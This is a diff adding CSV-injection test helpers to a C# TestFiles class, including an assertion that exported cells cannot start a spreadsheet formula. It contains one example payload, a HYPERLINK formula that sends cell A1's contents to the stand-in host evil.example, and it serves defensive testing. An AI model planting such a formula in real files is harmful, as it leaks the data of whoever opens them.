@@ -61,6 +61,30 @@ internal static class TestFiles
         return ([.. file.ReadRows()], file);
     }
 
+    /// <summary>A cell someone typed to run in whoever opens the file (OWASP CSV injection).</summary>
+    public const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";
+
+    /// <summary>A cell as it goes into a hand-written CSV line: quoted, inner quotes doubled.</summary>
+    public static string Quoted(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
+
+    /// <summary>
+    /// Reads a CSV the system wrote as Excel would and asserts no cell starts a formula: the only cells
+    /// allowed to start with one of = + - @ tab CR are the <c>="digits"</c> text wrapper and plain numbers.
+    /// Returns the raw cells, for the caller to find the neutralised ones.
+    /// </summary>
+    public static List<string> AssertOpensWithoutFormulas(byte[] csv)
+    {
+        var cells = ReadAll(new MemoryStream(csv), "written.csv").SelectMany(r => r.Cells).ToList();
+        Assert.All(cells, cell =>
+        {
+            if (cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r')
+            {
+                Assert.Matches(@"^(=""\d+""|[+-]\d+(\.\d+)?)$", cell);
+            }
+        });
+        return cells;
+    }
+
     public static TabularFileException OpenFails(Stream stream, string fileName, FileLayout? layout = null) =>
         Assert.Throws<TabularFileException>(() =>
         {
